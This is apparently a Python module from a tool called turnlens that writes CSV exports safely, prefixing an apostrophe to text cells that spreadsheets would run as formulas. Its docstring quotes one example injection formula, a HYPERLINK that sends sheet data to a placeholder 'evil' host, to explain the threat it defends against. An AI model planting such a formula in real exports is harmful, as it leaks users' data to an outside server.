"""The one rule every CSV turnlens writes follows, so a spreadsheet never runs log text as a formula.

Text in our CSVs comes from logs, candidate files and people (turn text, dialogue ids, model names, values,
reviewer names). Excel, LibreOffice and Google Sheets run a cell whose text starts with ``=``, ``+``, ``-`` or
``@`` as a formula (``=HYPERLINK("http://evil/?"&A1, "x")`` sends the sheet's data away), and a leading tab or
carriage return can hide such a start. OWASP's recommendation, followed here: such a text cell gets a leading
apostrophe, which spreadsheets show as text and do not evaluate. Numbers, dates and missing values are left
alone. The rule changes the text, so exact values are in the JSON Lines and Parquet exports, which never
apply it.

Every CSV turnlens writes for people goes through ``write_csv`` (the labels export streams DuckDB's record
batches into it; the pages' downloads pass their DataFrames through ``csv_bytes``): the rule on every text
column, nested values (lists, structs, maps) as their JSON text so every cell parses back, one layout
(a header, commas, text quoted, an empty cell for a missing value). The log files ``analysis.simulate`` writes
are not downloads: they are turnlens's log format, read back exactly by ``analysis.logs``.
"""

from __future__ import annotations

import io
import json
from collections.abc import Iterable
from pathlib import Path
from typing import BinaryIO

import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.csv as pa_csv

# OWASP's list (CSV injection): the first characters that make a spreadsheet evaluate a cell.
FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
PREFIX = "'"  # a leading apostrophe: spreadsheets show the rest as text
# The same test as is_formula_like, vectorised over Arrow string arrays (write_csv): the first character's set.
_STARTS = pa.array(FORMULA_STARTS, type=pa.string())


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could run this text as a formula (it starts with one of FORMULA_STARTS)."""
    return text[:1] in FORMULA_STARTS


def safe_cell(value: object) -> object:
    """A CSV cell that no spreadsheet runs: text starting with one of FORMULA_STARTS gets PREFIX in front;
    anything else (other text, numbers, None) is returned unchanged."""
    if isinstance(value, str) and is_formula_like(value):
        return PREFIX + value
    return value


CsvSource = pa.Table | pa.RecordBatch | pa.RecordBatchReader | pd.DataFrame | Iterable[pa.RecordBatch]


def write_csv(source: CsvSource, sink: str | Path | BinaryIO) -> int:
    """Write source as CSV to sink (a path or a binary file), batch by batch, and return the rows written: the
    one CSV writer of turnlens. Every text cell starting with one of FORMULA_STARTS gets PREFIX (safe_cell's
    rule, applied by Arrow compute); lists, structs and maps become their JSON text; numbers, booleans
    (true/false), dates and times are written as Arrow writes them; a missing value is an empty cell.
    A source that is an iterable of batches is streamed: at most one batch is in memory. An empty source with
    no schema writes nothing."""
    batches = _batches(source)
    first = next(batches, None)
    if first is None:
        if isinstance(source, pa.Table | pa.RecordBatchReader | pd.DataFrame):
            schema = _safe_schema(source.schema if not isinstance(source, pd.DataFrame) else
                                  pa.Table.from_pandas(source, preserve_index=False).schema)
            _write(iter(()), schema, sink)
        return 0
    safe = _safe_batch(first)
    rest = (_safe_batch(b) for b in batches)
    return _write(_chain(safe, rest), safe.schema, sink)


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """frame as CSV (write_csv's rule and layout), for a download button. Its index is not written."""
    out = io.BytesIO()
    write_csv(frame, out)
    return out.getvalue()


def _write(batches: Iterable[pa.RecordBatch], schema: pa.Schema, sink: str | Path | BinaryIO) -> int:
    target = str(sink) if isinstance(sink, str | Path) else sink
    n = 0
    # Column names are ours: unquoted unless one needs quotes (Arrow would quote them all otherwise).
    plain = not any(ch in name for name in schema.names for ch in ',"\r\n')
    options = pa_csv.WriteOptions(quoting_header="none" if plain else "needed")
    with pa_csv.CSVWriter(target, schema, write_options=options) as writer:
        for batch in batches:
            writer.write_batch(batch)
            n += batch.num_rows
    return n


def _chain(first: pa.RecordBatch, rest: Iterable[pa.RecordBatch]) -> Iterable[pa.RecordBatch]:
    yield first
    yield from rest


def _batches(source: CsvSource) -> Iterable[pa.RecordBatch]:
    if isinstance(source, pd.DataFrame):
        source = _frame_table(source)
    if isinstance(source, pa.RecordBatch):
        return iter([source])
    if isinstance(source, pa.Table):
        return iter(source.to_batches())
    return iter(source)


def _frame_table(frame: pd.DataFrame) -> pa.Table:
    """frame as Arrow; an object column Arrow cannot type (text mixed with numbers, say) is taken as text, its
    lists and dicts as their JSON text."""
    try:
        return pa.Table.from_pandas(frame, preserve_index=False)
    except (pa.ArrowInvalid, pa.ArrowTypeError):
        fixed = frame.copy()
        for col in fixed.columns:
            if fixed[col].dtype == object:
                try:
                    pa.array(fixed[col], from_pandas=True)
                except (pa.ArrowInvalid, pa.ArrowTypeError):
                    fixed[col] = fixed[col].map(_as_text)
        return pa.Table.from_pandas(fixed, preserve_index=False)


def _as_text(value: object) -> str | None:
    if isinstance(value, str):
        return value
    if isinstance(value, list | tuple | dict):
        return json.dumps(value, ensure_ascii=False, default=str)
    return None if value is None or pd.isna(value) else str(value)


def _is_nested(kind: pa.DataType) -> bool:
    return pa.types.is_nested(kind) or (isinstance(kind, pa.BaseExtensionType) and kind.extension_name == "arrow.json")


def _is_text(kind: pa.DataType) -> bool:
    return pa.types.is_string(kind) or pa.types.is_large_string(kind) or pa.types.is_string_view(kind)


def _safe_schema(schema: pa.Schema) -> pa.Schema:
    return pa.schema([pa.field(f.name, pa.string()) if _is_nested(f.type) or _is_text(f.type) or
                      pa.types.is_dictionary(f.type) else f for f in schema])


def _safe_batch(batch: pa.RecordBatch) -> pa.RecordBatch:
    """batch with nested columns as JSON text and the rule applied to every text column."""
    columns = []
    for field, column in zip(batch.schema, batch.columns, strict=True):
        kind = field.type
        if pa.types.is_dictionary(kind):
            column, kind = column.dictionary_decode(), kind.value_type
        if isinstance(kind, pa.BaseExtensionType):
            column, kind = column.storage, kind.storage_type
            if _is_text(kind):  # arrow.json: its storage is the JSON text already
                column, kind = column.cast(pa.string()), pa.string()
        if pa.types.is_nested(kind):
            column = pa.array([None if v is None else json.dumps(v, ensure_ascii=False, default=str)
                               for v in column.to_pylist()], type=pa.string())
        elif _is_text(kind):
            column = column.cast(pa.string())
        else:
            columns.append(column)
            continue
        starts = pc.is_in(pc.utf8_slice_codeunits(column, 0, 1), value_set=_STARTS)
        # most columns hold no formula start: those are written as they are, without a copy
        columns.append(pc.if_else(starts, pc.binary_join_element_wise(PREFIX, column, ""), column)
                       if pc.any(starts).as_py() else column)
    return pa.RecordBatch.from_arrays(columns, names=batch.schema.names)
